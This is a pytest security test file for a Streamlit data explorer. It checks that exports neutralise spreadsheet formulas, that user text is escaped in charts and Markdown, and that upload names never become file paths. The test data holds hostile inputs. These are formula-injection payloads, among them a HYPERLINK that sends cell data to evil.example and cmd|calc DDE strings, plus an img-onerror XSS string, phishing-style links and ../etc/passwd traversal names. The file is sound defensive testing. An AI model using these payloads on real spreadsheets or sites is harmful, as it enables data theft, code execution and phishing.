"""Nothing a user supplies runs in another user's browser or spreadsheet, or reaches the disk.

* Exports: CSV and Excel cells that begin with ``=``, ``+``, ``-``, ``@``, tab or carriage return
  are neutralised unless they are numbers (``-0.45`` stays a number), in every file the explorer
  writes for download (chart data, the reproducibility bundle).
* Rendering: user text (column names, file names, labels, URL parameters) is escaped wherever it
  is drawn: plotly text is HTML-escaped (``explorer.charts.base.esc``), Streamlit Markdown is escaped
  (``app_pages._ui.md_escape``) so a crafted link cannot put a live link or a remote image in
  the app's own error and warning boxes; ``unsafe_allow_html`` appears nowhere.
* Limits and paths: the upload limit in ``.streamlit/config.toml`` is the one checked in code;
  upload names and URL parameters never become paths.
"""

from __future__ import annotations

import csv
import io
import re
import tomllib
import zipfile

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from explorer import export
from explorer.export.files import neutralise, to_csv, to_excel
from explorer.io import limits
from tests.conftest import ROOT

RISKY = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
]
HOSTILE_NAME = '<img src=x onerror=alert(1)>[click](evil.example)"=1+1.csv'  # no "/": a name
HOSTILE = '<img src=x onerror=alert(1)>[click](https://evil.example)"=1+1'


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def assert_safe_cell(cell: str) -> None:
    assert not (cell.startswith(RISKY) and not NUMBER.match(cell)), repr(cell)


# -- spreadsheet formulas -------------------------------------------------------------------------
@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_neutralised_in_csv_and_excel(payload):
    frame = pd.DataFrame({payload: [payload, "ok"], "value": [-0.45, 1.0], "text": ["-0.45", "+1"]})
    rows = csv_cells(to_csv(frame))
    for row in rows:
        for cell in row:
            assert_safe_cell(cell)
    # (a CR inside a cell is written as a quoted LF, so no spreadsheet breaks the row there)
    expected = "'" + payload.replace("\r", "\n")
    assert rows[0][0] == expected and rows[1][0] == expected and len(rows) == 3
    # Numbers stay numbers: the float and the number-like text cells are written as they are.
    assert rows[1][1] == "-0.45" and rows[1][2] == "-0.45" and rows[2][2] == "+1"

    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(to_excel(frame))).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells), [c.value for c in cells if c.data_type == "f"]
    for c in cells:
        if isinstance(c.value, str):
            assert_safe_cell(c.value)
    assert ws.cell(2, 2).value == -0.45 and ws.cell(2, 2).data_type == "n"


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(min_size=0, max_size=12), min_size=1, max_size=8))
def test_no_text_cell_leaves_as_a_formula(texts):
    prefixed = [p + t for p, t in zip(RISKY * 2, texts, strict=False)] + texts
    frame = pd.DataFrame({"cell": prefixed, "n": np.linspace(-1, 1, len(prefixed))})
    for row in csv_cells(to_csv(frame))[1:]:
        assert_safe_cell(row[0])
    for t in prefixed:
        out = neutralise(t)
        assert out == t if not (t.startswith(RISKY) and not NUMBER.match(t)) else out == "'" + t


@pytest.mark.parametrize("value", [-0.45, "-0.45", "+3", "-1e-3", 12, "-12"])
def test_numbers_stay_numbers(value):
    assert neutralise(value) == value


def test_reproducibility_bundle_csvs_are_neutralised():
    """A hostile column name goes through load -> fit -> bundle: every CSV in the zip is safe."""
    from explorer.io.loader import load_table
    from explorer.io.series import series_from_spec
    from explorer.models.fit import fit_its
    from explorer.spec import Intervention, ItsSpec

    col = '=HYPERLINK("http://evil.example","x")'
    dates = pd.date_range("2014-01", periods=30, freq="MS")
    y = 100 - np.arange(30) + np.where(np.arange(30) >= 18, -15, 0) + (np.arange(30) % 3)
    body = pd.DataFrame({"month": dates.strftime("%Y-%m"), col: y}).to_csv(index=False)
    table = load_table(body.encode(), filename="=evil.csv")
    spec = ItsSpec(time=table.time_column, value=col, interventions=(Intervention("x", "2015-07"),))
    result = fit_its(series_from_spec(table, spec), spec)
    from explorer import charts

    chart = charts.its_chart(result, text=charts.ChartText(title=col))
    z = zipfile.ZipFile(io.BytesIO(export.repro_bundle(result, chart=chart)))
    csvs = [n for n in z.namelist() if n.endswith(".csv")]
    assert csvs
    for name in csvs:
        for row in csv_cells(z.read(name)):
            for cell in row:
                assert_safe_cell(cell)
    for row in csv_cells(to_csv(chart)):
        for cell in row:
            assert_safe_cell(cell)


# -- escaping where user text is drawn ------------------------------------------------------------
def _hostile_fit():
    from explorer.io.loader import load_table
    from explorer.io.series import series_from_spec
    from explorer.models.fit import fit_its
    from explorer.spec import Intervention, ItsSpec

    dates = pd.date_range("2014-01", periods=30, freq="MS")
    y = 100 - np.arange(30) + np.where(np.arange(30) >= 18, -15, 0) + (np.arange(30) % 3)
    body = pd.DataFrame({"month": dates.strftime("%Y-%m"), HOSTILE: y}).to_csv(index=False)
    table = load_table(body.encode(), filename=HOSTILE_NAME)
    spec = ItsSpec(
        time=table.time_column, value=HOSTILE, interventions=(Intervention("a&b (x)", "2015-07"),)
    )
    return table, fit_its(series_from_spec(table, spec), spec)


def test_hostile_column_and_file_names_are_plain_text_on_charts_and_in_html():
    from explorer import charts

    table, result = _hostile_fit()
    chart = charts.its_chart(
        result,
        text=charts.ChartText(title=table.name, subtitle=HOSTILE, source=table.name),
    )
    drawn = list(charts.iter_text(chart))
    assert drawn
    for s in drawn:
        assert "<img" not in s and "<a " not in s, s
    assert any("&lt;img src=x onerror=alert(1)&gt;" in s for s in drawn)
    page = export.to_html(chart)
    assert "<img src=x" not in page and "onerror=alert(1)>" not in page
    assert "<title>" in page and "&lt;img" in page.split("<title>", 1)[1].split("</title>")[0]
    # Prose exports are plain text for pasting (the app shows them in text areas, never as
    # Markdown or HTML), so they quote the column name exactly as typed.
    assert HOSTILE in export.methods_paragraph(result)


_LIVE_LINK = re.compile(r"(?<!\\)\[[^\]]*(?<!\\)\]\s*\(")  # [text]( not escaped
_LIVE_IMAGE = re.compile(r"(?<!\\)!(?<!\\)\[")


def assert_inert_markdown(body: str) -> None:
    assert not _LIVE_LINK.search(body), f"live Markdown link in: {body}"
    assert not _LIVE_IMAGE.search(body), f"live Markdown image in: {body}"


def test_md_escape_makes_links_and_images_inert():
    from app_pages._ui import md_escape

    for text in (HOSTILE, "![x](https://evil.example/p.png)", "[a](javascript:alert(1))"):
        assert_inert_markdown(md_escape(text))


class Box:
    def __init__(self):
        self.shown: list[str] = []

    def error(self, body, **_kw):
        self.shown.append(str(body))


def test_error_messages_quoting_user_text_are_escaped_in_the_app():
    """A column name or file name inside an InputError must not become a link in ``st.error``."""
    from app_pages import _ui as ui
    from explorer.errors import InputError

    box = Box()
    with ui.guard(box):
        raise InputError(f"There is no value column {HOSTILE!r}. The columns are: 'month'.")
    (shown,) = box.shown
    assert_inert_markdown(shown)
    # Unescaped, the user still reads exactly what they typed.
    assert HOSTILE in re.sub(r"\\(.)", r"\1", shown).replace("\u200d", "")


def test_hostile_url_parameters_are_shown_inert_in_the_app():
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.query_params["family"] = "[Verify your account](https://evil.example/login)"
    at.query_params["value"] = "![t](https://evil.example/pixel.png)"
    at.query_params["iv"] = "[x](https://evil.example)=2016-01"
    at.switch_page("app_pages/explore.py")
    at.run()
    assert not at.exception
    bodies = [w.value for w in at.warning] + [e.value for e in at.error]
    bodies += [m.value for m in at.markdown] + [c.value for c in at.caption]
    plain = [re.sub(r"\\(.)", r"\1", b) for b in bodies]
    assert any("evil.example" in b for b in plain), bodies  # the bad values are reported ...
    for b in bodies:
        assert_inert_markdown(b)  # ... as text, never as a live link or image


def test_no_unsafe_html_in_the_app():
    files = [ROOT / "app.py", *sorted((ROOT / "app_pages").glob("*.py"))]
    assert len(files) > 3
    for f in files:
        text = f.read_text()
        assert "unsafe_allow_html" not in text, f
        assert not re.search(r"\bst\.html\(|components\.v1|components\.html", text), f


# -- limits, paths, server settings ---------------------------------------------------------------
def test_upload_limit_in_config_is_the_one_checked_in_code():
    cfg = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    server = cfg["server"]
    assert server["maxUploadSize"] * limits.MB == limits.MAX_UPLOAD_BYTES
    # Streamlit's cross-site protections stay on (they default to on; nobody may turn them off).
    assert server.get("enableXsrfProtection", True) is True
    assert server.get("enableCORS", True) is True
    assert cfg.get("client", {}).get("showErrorDetails") in ("none", False)


def test_upload_names_never_become_paths():
    from app_pages import _ui as ui

    body = b"month,n\n" + b"".join(b"2016-%02d,%d\n" % (m, m * 3 % 7) for m in range(1, 13))
    key, table = ui.load_upload(body, "../../../../etc/passwd")
    assert table.path is None and table.name == "passwd"
    assert "/" not in key


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "/etc/passwd", "..", "scenarios/../../x", "~root"]
)
def test_dataset_names_from_urls_are_catalogue_keys_only(name):
    from explorer import catalog
    from explorer.errors import InputError
    from explorer.urlstate import from_query

    assert not catalog.is_dataset_name(name)
    with pytest.raises(InputError):
        catalog.get_dataset(name)
    state, warnings = from_query({"ds": name}, datasets=[i.key for i in catalog.list_resources()])
    assert state.dataset is None and warnings


def test_every_csv_the_app_offers_goes_through_the_formula_safe_writer():
    """No download button in the app is fed by pandas' own ``to_csv`` (which writes a cell
    such as ``=HYPERLINK(...)`` as a live formula): they use ``explorer.export.files.to_csv``."""
    import ast

    from tests.conftest import ROOT

    offenders = []
    for path in sorted((ROOT / "app_pages").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "download_button"
            ):
                continue
            for arg in [*node.args, *(k.value for k in node.keywords)]:
                for sub in ast.walk(arg):
                    if (
                        isinstance(sub, ast.Call)
                        and isinstance(sub.func, ast.Attribute)
                        and sub.func.attr == "to_csv"
                        and not (
                            isinstance(sub.func.value, ast.Name) and sub.func.value.id == "files"
                        )
                    ):
                        offenders.append(f"{path.name}:{sub.lineno}")
    assert not offenders, offenders
